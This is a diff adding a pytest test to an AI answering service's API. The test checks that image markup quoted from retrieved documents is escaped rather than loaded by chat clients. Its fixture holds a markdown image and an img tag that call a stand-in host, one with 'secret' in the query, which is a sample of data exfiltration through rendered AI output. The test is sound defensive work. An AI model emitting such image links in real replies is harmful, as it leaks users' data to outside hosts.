@@ -799,6 +799,25 @@ def test_hidden_characters_and_lone_surrogates_are_shown(scripted: Scripted) -> 
     assert chat["choices"][0]["message"]["content"] == "a\ufffd\ufffd\ufffdb"
 
 
+@pytest.mark.parametrize("cite", ["markers", "links", "footnotes", "open-webui"])
+@pytest.mark.parametrize("path", ["chat/completions", "responses"])
+@pytest.mark.parametrize("stream", [False, True])
+def test_no_chat_program_loads_what_a_document_names(scripted: Scripted, path: str, cite: str, stream: bool) -> None:
+    scripted.go.set()
+    text = "It rings. ![bell](http://a.example/?q=secret) <img src=//a.example>"
+    passage = Passage("bell#1", "Bell", text)
+    sentence = CitedSentence(text, (Citation("bell#1", 0, len(text), text, "copied"),), 0, len(text))
+    found = Answer(Question("q1", "?"), text, (sentence,), (Hit(passage, 1.0),), "test")
+    scripted.answers = [found, replace(found, text="", sentences=(), abstained=True, reason=None)]
+    body = {"model": "reader", "stream": stream, "messages": user("x"), "input": "x", "cite": cite}
+    for is_answered in (True, False):
+        reply = browser(scripted).post(f"/v1/{path}", json=body).text
+        assert "rings" in reply
+        has_annotations = is_answered and not (cite == "open-webui" and path == "chat/completions")
+        assert (text in reply) == has_annotations  # verbatim there
+        assert not re.search(r"!\[b|(?<!\\)\]\(http://a|(?<!\\)<img|//a\.example", reply.replace(text, ""))
+
+
 @pytest.mark.parametrize("path", ["chat/completions", "responses"])
 def test_a_slow_answer_begins_the_stream_and_keeps_it_alive(
     scripted: Scripted, path: str, monkeypatch: pytest.MonkeyPatch
